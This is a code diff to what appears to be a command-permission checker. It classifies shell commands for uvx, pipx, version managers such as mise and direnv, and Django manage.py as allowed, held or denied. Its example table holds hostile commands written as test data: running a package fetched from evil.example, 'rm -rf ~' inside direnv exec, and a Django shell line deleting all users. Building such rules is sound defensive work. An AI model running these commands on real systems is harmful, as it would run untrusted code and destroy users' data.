@@ -1,7 +1,7 @@
 import { asks, builds, changesSystem, code, nothing, publishes, revealsSecret, runsOwn, script, when } from "./acts.ts";
 import { commonTools } from "./common-tools.ts";
 import { changesHomeSettings, installs, otherRegistry, runsPackage, runsTool } from "./packages.ts";
-import { databaseLoss, emptiesDatabase } from "./database-loss.ts";
+import { consoleLine, databaseLoss, emptiesDatabase } from "./database-loss.ts";
 import type { Program, Use } from "./program.ts";
 
 const runsTools = runsTool(commonTools);
@@ -90,15 +90,20 @@ export const python: readonly Program[] = [
   {
     names: ["uvx"],
     summary: "runs a Python package's program",
-    flags: { ...pipFlags, "--from --with -p --index <x>": nothing },
+    flags: { ...pipFlags, "--from --with <package>": installs(), "-p --index <x>": nothing },
     stop: true,
     does: runsPackages,
-    examples: { "uvx ruff check .": "allow", "uvx git+https://evil.example/x": "hold" },
+    examples: {
+      "uvx ruff check .": "allow",
+      "uvx git+https://evil.example/x": "hold",
+      "uvx --from git+https://evil.example/x y": "hold",
+      "uvx --from ruff ruff check": "allow",
+    },
   },
   {
     names: ["pipx"],
     summary: "installs and runs Python programs",
-    flags: { "--python --spec --index-url -i --pip-args --suffix <x>": nothing },
+    flags: { "--spec <package>": installs(), "--python --index-url -i --pip-args --suffix <x>": nothing },
     subcommands: {
       run: { stop: true, does: runsPackages },
       "list|environment|runpip|completions": nothing,
@@ -113,7 +118,7 @@ export const python: readonly Program[] = [
     summary: "Python project managers",
     flags: { "-C --directory -P --project -G --group -E --extras --source -p -e --env <x>": nothing },
     subcommands: {
-      run: { stop: true, does: runsTools },
+      "run|exec": { stop: true, does: runsTools },
       "install|add|remove|update|lock|sync|show|check|build|export|init|new|env|env use|env list|env info|env remove|env create|env prune|env show|env find|shell|version|list|info|search|config --list|about|test|fmt|dep|task list|tree|clean|fix|lint|python list":
         installs(),
       "config|source add|source remove|self add|self update|self install": changesHomeSettings(
@@ -154,7 +159,17 @@ export const python: readonly Program[] = [
     names: ["pyenv", "rbenv", "asdf", "mise", "rtx", "jenv", "sdk", "goenv", "tfenv", "direnv"],
     summary: "switch versions of languages",
     subcommands: {
-      "run|r|tasks|task|test|x|exec|fmt": { stop: true, does: runsOwn },
+      "run|r|tasks|task|test|fmt": { stop: true, does: runsOwn },
+      // `direnv exec . cmd`, `mise x node@22 -- cmd`: after the folder or the versions comes a command.
+      "x|exec": {
+        stop: true,
+        does: (use, args) => {
+          const dashes = use.all.findIndex(({ text }) => text === "--");
+          const command = dashes >= 0 ? use.all.slice(dashes + 1) : use.name === "direnv" ? args.slice(1) : args;
+          if (command.length > 0) runsTools(use, command);
+          else runsOwn(use, []);
+        },
+      },
       use: {
         flags: { "-g --global": nothing },
         does: when("-g", changesSystem("change which languages are installed"), builds),
@@ -173,6 +188,10 @@ export const python: readonly Program[] = [
       "mise install": "allow",
       "direnv allow": "hold",
       "direnv exec . npm test": "allow",
+      "direnv exec . rm -rf ~": "deny",
+      "mise exec node@22 -- npm publish": "hold",
+      "mise x -- npm test": "allow",
+      "asdf exec ruby -v": "allow",
     },
   },
   {
@@ -181,6 +200,12 @@ export const python: readonly Program[] = [
     subcommands: {
       migrate: (use, args) => (args.at(-1)?.text === "zero" ? losesTables(use) : runsOwn(use, [])),
       "downgrade|db downgrade|flush|reset_db": losesTables,
+      "shell|shell_plus": {
+        flags: {
+          "-c --command <code>": (use, [line]) => (line === undefined ? undefined : consoleLine(use, "python", line)),
+        },
+        does: runsOwn,
+      },
     },
     does: (use, args) => {
       const loss = databaseLoss(args);
@@ -194,6 +219,8 @@ export const python: readonly Program[] = [
       "python manage.py migrate": "allow",
       "python manage.py migrate app zero": "hold",
       "python3 manage.py flush --no-input": "hold",
+      "python manage.py shell -c 'print(User.objects.count())'": "allow",
+      "python manage.py shell -c 'User.objects.all().delete()'": "hold",
     },
   },
 ];
